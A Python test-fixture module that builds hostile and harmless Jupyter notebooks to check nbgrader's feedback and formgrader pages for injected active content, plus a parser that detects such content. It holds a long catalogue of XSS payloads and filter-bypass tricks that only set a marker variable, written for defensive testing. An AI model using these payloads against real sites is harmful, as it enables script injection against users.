"""Hostile and harmless notebooks for HTML pages, and a parser that finds active content."""

import base64
import re
from html.parser import HTMLParser

import nbformat
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.server_extensions.formgrader.handlers import template_path
from traitlets.config import Config

import nbjudge

DOT = (
    "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAA"
    "AElFTkSuQmCC"
)


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">%s<rect width="40" height="40"'
    ' fill="green"/></svg>'
)


def b64(text):
    return base64.b64encode(text.encode()).decode()


# Placeholders: JS is a statement that reveals the payload, JS64 a page with it, DOT an image.
MARKDOWN = {
    "script": "<script>JS</script>",
    "script in upper case": "<ScRiPt\n>JS</sCrIpT\t>",
    "script with a bar": "<script/x>JS</script>",
    "script in a paragraph": "text <script>JS</script> text",
    "unclosed script": "<script>JS",
    "external script": '<script src="https://example.org/PAYLOAD.js"></script>',
    "module": '<script type="module">JS</script>',
    "image error": "<img src=x onerror=JS>",
    "image error, bars": "<img/src='x'/onerror=JS>",
    "image error, no quote's end": '<img src="x" onerror="JS"" alt="',
    "quote in an attribute": "<img alt=\"'>\" src=x title='\"' onerror=JS>",
    "svg load": "<svg onload=JS></svg>",
    "svg script": "<svg><script>JS</script></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:JS"/><text y=20>x</a>',
    "svg object": "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,JS64#x"/></svg>',
    "link": "[click](javascript:JS)",
    "link in mixed case": "[click](JaVaScRiPt:JS)",
    "link with an entity": '<a href="java&#10;script:JS">click</a>',
    "link with a named entity": '<a href="javascript&colon;JS">click</a>',
    "link with a tab": '<a href="java\tscript:JS">click</a>',
    "link with a control character": '<a href="\x01javascript:JS">click</a>',
    "link under files": "[click](files/javascript:JS)",
    "link under /files": '<a href="/files/javascript:JS">click</a>',
    "automatic link": "<javascript:JS>",
    "reference": "[click][r]\n\n[r]: javascript:JS",
    "vbscript": '<a href="vbscript:JS">click</a>',
    "data page": "[click](data:text/html;base64,JS64)",
    "file of the submission": "[my report](report.html) <a href='./x.svg'>x</a>",
    "link to another scheme": "[click](blob:PAYLOAD) [click](file:///etc/passwd)",
    "link that downloads": '<a href="https://example.org" download ping="https://e.org/p">x</a>',
    "frame": '<iframe src="javascript:parent.JS"></iframe>',
    "frame with a page": '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
    "frame set": '<frameset><frame src="javascript:JS"></frameset>',
    "object": '<object data="data:text/html;base64,JS64"></object>',
    "embed": '<embed src="data:image/svg+xml;base64,JS64">',
    "form": '<form action="javascript:JS"><button>click</button></form>',
    "button": '<form id=PAYLOADf></form><button form=PAYLOADf formaction="javascript:JS">',
    "focus": "<input autofocus onfocus=JS>",
    "select": "<select autofocus onfocus=JS><option>x</select>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://example.org/PAYLOAD">',
    "base": '<base href="https://example.org/PAYLOAD/">',
    "linked style": '<link rel="stylesheet" href="https://example.org/PAYLOAD.css" onerror=JS>',
    "imported style": "<style>@import 'https://example.org/PAYLOAD.css';</style>",
    "style for the page": "<style>body { display: none } input { position: fixed }</style>",
    "style with an address": '<p style="background: url(https://example.org/PAYLOAD)">x</p>',
    "style, escaped address": r'<p style="background: u\72l(https://example.org/PAYLOAD)">x</p>',
    "style, entity": '<p style="color:red&#59position:fixed;background:u&#114l(//PAYLOAD)">x</p>',
    "style that covers": '<div style="position:fixed;top:0;left:0;z-index:9;width:100%">x</div>',
    "style that moves": '<div style="margin-top:-900px">x</div>',
    "animation": "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=JS>x</b>",
    "toggle": "<details open ontoggle=JS><summary>x</summary></details>",
    "body": "<body onload=JS onpageshow=JS>",
    "video": "<video><source onerror=JS></video><audio src=x onerror=JS></audio>",
    "marquee": "<marquee onstart=JS>x</marquee>",
    "popover": "<div popover id=PAYLOADp onbeforetoggle=JS>x</div>",
    "mathml": '<math href="javascript:JS"><mtext>click</mtext></math>',
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=JS&gt;'>",
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
    "mutation, style": '<p><style><a title="</style><img src=x onerror=JS>"></p>',
    "comment": "<!--><img src=x onerror=JS>-->",
    "comment with a bang": "<!-- --!><img src=x onerror=JS> -->",
    "section": "<![CDATA[><img src=x onerror=JS>]]>",
    "instruction": "<?xml ><img src=x onerror=JS> ?>",
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=JS></template></div>",
    "title": "<title><img src=x onerror=JS></title>",
    "text area": "<textarea><img src=x onerror=JS></textarea>",
    "list of options": "<datalist><option><img src=x onerror=JS></datalist>",
    "way out": "</div></div></div></td></body></html><script>JS</script>",
    "nested tag": "<scr<script>ipt>JS</scr</script>ipt>",
    "null in a tag": "<scr\x00ipt>JS</script><img src=x on\x00error=JS>",
    "heading": "# <img src=x onerror=JS> [t](javascript:JS)",
    "table": "|a|\n|-|\n|<img src=x onerror=JS>|",
    "quotation": "> <script>JS</script>",
    "picture's title": '!["onerror=JS x="](x.png \'" onerror=JS "\')',
    "picture that is a script": "![x](javascript:JS)",
    "picture that is a page": "![x](data:text/html;base64,JS64)",
    "picture from elsewhere": "![PAYLOAD](https://example.org/x.png) <img src='//e.org/x.png'>",
    "picture that logs out": "<img src='/logout'><img src='../../logout?x=.png' srcset='/logout'>",
    "picture that goes up": "<img src='a/%2e%2e/%2e%2e/x.png'> <img src='a/../../x.png'>",
    "fenced code": "```html\n<script>JS</script>\n```",
    "fenced code's language": '```"><script>JS</script>\nx\n```',
    "diagram": "```mermaid\n<img src=x onerror=JS>\n```",
    "formula": "$<img src=x onerror=JS>$ and $$</span><script>JS</script>$$",
    "formula's environment": r"\begin{align}<script>JS</script>\end{align}",
    "formula's link": r"$\href{javascript:JS}{click}$",
    "formula's style": r"$\style{position:fixed;background:url(//PAYLOAD)}{x} \class{score}{x}$",
    "formula's names": r"$\cssId{ps1}{x} \require{PAYLOAD} \unicode[//PAYLOAD]{x41}$",
    "formula's script": '<script type="math/tex">\\href{javascript:JS}{x}</script>',
    "formulas' settings": '<script type="text/x-mathjax-config">JS</script>',
    "taken id": '<div id="exercise">x</div><a name="base_url">x</a><img name="getElementById">',
    "taken class": '<div class="full-credit tabbable score">all the points</div>',
    "taken data": '<a data-link="x" data-toggle="tooltip" data-html=true title="<img src=x '
    'onerror=JS>">x</a>',
    "the rest as text": "<xmp>",
    "the rest as plain text": "<plaintext>",
}


HTML = {
    name: text
    for name, text in MARKDOWN.items()
    if not re.match(r"(link|data|reference|fenced|formula|diagram|heading|table|quot)", name)
}


DATA = {
    "javascript": {"application/javascript": "JS"},
    "svg": {"image/svg+xml": SVG % "<script>JS</script><image href='x' onerror='JS'/>"},
    "svg that is no svg": {"image/svg+xml": '"><script>JS</script>'},
    "latex": {"text/latex": r"$\href{javascript:JS}{x}$ <script>JS</script>"},
    "markdown": {"text/markdown": "[x](javascript:JS) <script>JS</script>"},
    "plain": {"text/plain": "<script>JS</script>"},
    "png that is no png": {"image/png": '"><script>JS</script>'},
    "jpeg that is no jpeg": {"image/jpeg": "x' onerror='JS"},
    "diagram": {"text/vnd.mermaid": "<script>JS</script>"},
    "own type": {"text/PAYLOAD+html": "<script>JS</script>"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "m</script><script>JS"}},
}


OUTPUTS = {
    "stream": new_output(
        "stream", text="<script>JS</script> \x1b[31m<img src=x onerror=JS>\x1b[0m"
    ),
    "stream's link": new_output("stream", text="\x1b]8;;javascript:JS\x07x\x1b]8;;\x07"),
    "stream's color": new_output("stream", text='\x1b[38;2;1;1;1"onload=JS x=m<b>'),
    "error": new_output(
        "error",
        ename="<script>JS</script>",
        evalue="<img src=x onerror=JS>",
        traceback=["\x1b[31m<script>JS</script>", "<img src=x onerror=JS>"],
    ),
    "isolated": new_output(
        "display_data", {"text/html": "<script>parent.JS</script>"}, metadata={"isolated": True}
    ),
    "isolated type": new_output(
        "display_data",
        {"text/html": "<script>parent.JS</script>"},
        metadata={"text/html": {"isolated": True}},
    ),
    "width": new_output(
        "display_data", {"image/png": DOT}, metadata={"image/png": {"width": "1 onload=JS"}}
    ),
    "height, all types": new_output(
        "display_data", {"image/png": DOT}, metadata={"height": "1 onload=JS"}
    ),
    "description": new_output(
        "display_data", {"image/png": DOT}, metadata={"image/png": {"alt": '" onload=JS x="'}}
    ),
    "file name": new_output(
        "display_data", {"image/png": DOT}, metadata={"filenames": {"image/png": "/logout"}}
    ),
}


HOSTILE = {
    "title": "<script>pwned='title'</script>",
    "authors": [{"name": "<script>pwned='authors'</script>"}],
    "kernelspec": {"name": "<script>", "display_name": "<script>pwned='kernelspec'</script>"},
    "language_info": {
        "name": "<script>pwned='language'</script>",
        "pygments_lexer": "x full-credit score",
        "codemirror_mode": {"name": "<script>pwned='mode'</script>"},
    },
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"m</script><script>pwned='widget'": {"model_name": "</script>"}}
        }
    },
}


HOSTILE_CELL = {
    "tags": ['"><script>pwned=1</script>', "x full-credit"],
    "collapsed": True,
    "transient": {"remove_source": True},
    "name": "<script>",
    "alt": '" onload="pwned=1',
    "nbgrader": {
        "grade_id": '"><script>pwned="grade_id"</script>',
        "grade": False,
        "solution": True,
        "locked": False,
        "schema_version": 3,
    },
}


STYLED_TABLE = """<style type="text/css">
#T_a1_row0_col0, #T_a1_row1_col0 { background-color: #123456; color: #f1f1f1; }
#T_a1 th { text-align: left; }
#T_a1 .col0 { font-weight: bold; }
body { display: none; }
</style>
<table id="T_a1"><thead><tr><th class="col_heading level0 col0">A</th></tr></thead>
<tbody><tr><td id="T_a1_row0_col0" class="data row0 col0">11</td></tr>
<tr><td id="T_a1_row1_col0" class="data row1 col0">22</td></tr></tbody></table>"""


FRAME = """<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>loss</th>
</tr></thead><tbody><tr><th>epoch 1</th><td>0.693</td></tr></tbody></table></div>"""


HONEST = f"""# Heading two words

*emphasis* and **strong** and `code <b>` and ~~struck~~, x < y & z.
[link](https://example.org/a?b=1&c=2) [mail](mailto:a@example.org) [there](#Heading-two-words)

- one
- [x] done

> quotation

| left | right |
|:-----|------:|
| a    | b     |

```python
def f(x):
    return "<tag>"
```

$x < y$ and $$a & b$$ ![attached](attachment:dot.png) ![inline](data:image/png;base64,{DOT})
![file](images/dot%20two.png)

<div class="alert alert-info" style="color: blue">a note</div>"""


HONEST_PARTS = [
    "<em>emphasis</em>",
    "<strong>strong</strong>",
    "<code>code &lt;b&gt;</code>",
    "<del>struck</del>",
    "x &lt; y &amp; z",
    'href="https://example.org/a?b=1&amp;c=2"',
    'href="mailto:a@example.org"',
    'id="in-notebook-Heading-two-words"',
    'href="#in-notebook-Heading-two-words">there',
    "<li>one</li>",
    "\u2611 done",
    "<blockquote>",
    '<td style="text-align: right;">b</td>',
    '<span class="k">def</span>',
    "$$a &amp; b$$",
    f'src="data:image/png;base64,{DOT}"',
    'class="alert alert-info"',
    "color: blue",
]


HONEST_PARTS_OF = {
    "feedback": [
        '<h3 id="in-notebook-Heading-two-words">Heading two words</h3>',
        "red and bold",
        "<mi>x</mi><mo>&lt;</mo><mi>y</mi>",
        "<mfrac><mrow><mn>1</mn></mrow><mrow><mn>2</mn></mrow></mfrac>",
        "[file: the file images/dot two.png is missing]",
        '<span class="c"># comment</span>',
    ],
    "formgrader": [
        "Heading two words<a",
        'src="images/dot%20two.png"',
        '<span class="ansi-red-fg">red</span> and <span class="ansi-bold">bold</span>',
        '<span class="c1"># comment</span>',
        "hl-ipython3",
        "$x &lt; y$",
        "$\\frac{1}{2}$",
    ],
}


def named(content, name):
    """Return a payload with its name substituted at every depth."""
    if isinstance(content, dict):
        return type(content)({named(k, name): named(v, name) for k, v in content.items()})
    if isinstance(content, list):
        return [named(item, name) for item in content]
    if not isinstance(content, str):
        return content
    name = re.sub(r"\W", "_", name)
    return (
        content.replace("JS64", b64(f"<script>parent.pwned='{name}'</script>"))
        .replace("JS", f"pwned='{name}'")
        .replace("PAYLOAD", name)
    )


def solution(cell, grade_id="exercise"):
    cell.metadata["nbgrader"] = {
        "grade": False,
        "grade_id": grade_id,
        "locked": False,
        "schema_version": 3,
        "solution": True,
        "task": False,
    }
    return cell


def graded(source, outputs=(), grade_id="check"):
    cell = solution(new_code_cell(source, outputs=list(outputs), execution_count=7), grade_id)
    cell.metadata.nbgrader.update(grade=True, solution=False, locked=True, points=2)
    return cell


def error(*lines, message="no"):
    return new_output("error", ename="AssertionError", evalue=message, traceback=list(lines))


def notebook(*cells, **metadata):
    cells = [solution(new_code_cell("def double(x):\n    return 2 * x")), *cells]
    cells.append(graded("assert double(2) == 4"))
    return new_notebook(cells=cells, metadata=metadata)


def hostile(**chosen):
    """Return a notebook with all payloads, or with those in chosen=(kind, name)."""
    cells = []
    for name, text in MARKDOWN.items():
        cells.append(new_markdown_cell(named(text, f"markdown {name}")))
    for name, text in HTML.items():
        output = new_output("execute_result", {"text/html": named(text, f"html {name}")})
        cells.append(new_code_cell(f"print({name!r})", outputs=[output]))
    for name, data in DATA.items():
        output = new_output("display_data", named(data, f"data {name}"))
        cells.append(new_code_cell("1", outputs=[output], metadata=HOSTILE_CELL))
    for name, output in OUTPUTS.items():
        cells.append(new_code_cell("2", outputs=[named(output, f"output {name}")]))
    for mime in ("text/html", ""):
        text = named("<script>JS</script><img src=x onerror=JS>", f"raw {mime}")
        cells.append(new_raw_cell(text, metadata={"raw_mimetype": mime}))
    page, drawing = "<script>pwned='attached'</script>", SVG % "<script>pwned='drawn'</script>"
    attachments = {"a": {"text/html": b64(page)}, "b": {"image/svg+xml": b64(drawing)}}
    cells.append(
        new_markdown_cell("![x](attachment:a) ![x](attachment:b)", attachments=attachments)
    )
    cells.append(new_markdown_cell("![x](attachment:missing) kept", metadata=HOSTILE_CELL))
    cells.append(new_code_cell("</script><script>pwned='source'</script>"))
    return notebook(*cells, **HOSTILE)


def honest():
    figure = new_output(
        "display_data", {"image/png": DOT}, metadata={"image/png": {"width": 31, "alt": "a dot"}}
    )
    outputs = [
        figure,
        new_output("display_data", {"image/svg+xml": SVG % ""}),
        new_output("execute_result", {"text/html": FRAME, "text/plain": "plain frame"}),
        new_output("execute_result", {"text/html": STYLED_TABLE}),
        new_output("display_data", {"text/html": "<script>draw()</script><div></div>"}),
        new_output("display_data", {"text/html": "<svg viewBox='0 0 9 9'><path d='M0 0'/></svg>"}),
        new_output("display_data", {"text/latex": "$\\frac{1}{2}$"}),
        new_output("stream", text="\x1b[31mred\x1b[0m and \x1b[1mbold\x1b[0m"),
        new_output("error", ename="E", evalue="m", traceback=["\x1b[31mE\x1b[0m: m"]),
        new_output(
            "display_data", {"application/javascript": "draw()", "text/plain": "plain instead"}
        ),
    ]
    return notebook(
        new_markdown_cell(HONEST, attachments={"dot.png": {"image/png": DOT}}),
        new_code_cell("x = [1, 2]  # comment", outputs=outputs, execution_count=3),
        language_info={"name": "python", "pygments_lexer": "ipython3"},
    )


class Course:
    """A course with one student, whose autograded notebook a test supplies."""

    def __init__(self, root):
        self.root, self.url = root, f"sqlite:///{root}/gradebook.db"

    def config(self, inert=True):
        config = Config()
        config.CourseDirectory.root = str(self.root)
        config.CourseDirectory.db_url = self.url
        config.CourseDirectory.assignment_id = "ps1"
        if inert:
            nbjudge.configure(config)
        return config

    def write(self, nb):
        path = self.root / "autograded" / "ada" / "ps1" / "work.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)
        return path

    def feedback(self, nb, config=None):
        """Return the page that nbgrader's own converter writes."""
        self.write(nb)
        config = config or self.config()
        coursedir = CourseDirectory(config=config)
        GenerateFeedback(coursedir=coursedir, force=True, config=config).start()
        return (self.root / "feedback" / "ada" / "ps1" / "work.html").read_text("utf-8")

    def formgrader(self, nb, config=None):
        """Return the page that the formgrader's handler serves."""
        path = self.write(nb)
        config = config or self.config()
        config.HTMLExporter.template_name = "formgrade"
        config.HTMLExporter.extra_template_basedirs = [template_path]
        resources = {
            "assignment_id": "ps1",
            "notebook_id": "work",
            "submission_id": "0123",
            "index": 0,
            "total": 1,
            "base_url": "",
            "student": "ada",
            "last_name": "O'Brien<script>pwned='name'</script>",
            "first_name": "Ada",
            "notebook_path": "autograded/ada/ps1/work.ipynb",
        }
        return HTMLExporter(config=config).from_filename(str(path), resources=resources)[0]


class Active(HTMLParser):
    """Collects active content, and elements that the formgrader's scripts take for their own."""

    TAGS = re.compile(
        "applet|area|audio|base|body|button|embed|form|frame|frameset|html|iframe|input|link|"
        "marquee|math|meta|noscript|object|option|plaintext|portal|script|select|source|style|svg|"
        "template|textarea|title|use|video|xmp"
    )
    NAMES = re.compile(r"(on|data-|srcdoc|srcset|form|action|ping|xlink|popover|target).*")
    VALUES = {  # harmless values
        "href": re.compile(r"(https?://|mailto:|#|/formgrader/).*"),
        "src": re.compile(r"(data:image/|images/dot|/formgrader/).*", re.S),
        "style": re.compile(r"(?!.*(url|position|-\d|animation)).*"),
        "class": re.compile(
            r"(?!.*\b(score|comment|full-credit|no-credit|mark-graded|tabbable|save-icon)\b).*"
        ),
    }

    def __init__(self, page):
        super().__init__()
        self.found, self.ids, self.inside = [], [], None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.inside = tag if tag in ("script", "style", "title") else None
        is_formula = tag == "math" and {name for name, _ in attributes} == {"xmlns", "display"}
        if self.TAGS.fullmatch(tag) and not is_formula:
            self.found.append((tag, *sorted(attributes)))
        for name, value in attributes:
            fine = self.VALUES.get(name, re.compile(".*", re.S)).fullmatch(value or "")
            if self.NAMES.fullmatch(name) or not fine:
                self.found.append((tag, name, value))
            if name == "id":
                self.ids.append(value)

    def handle_data(self, data):
        if self.inside:
            self.found.append((self.inside, data))


def active(page):
    return Active(page).found
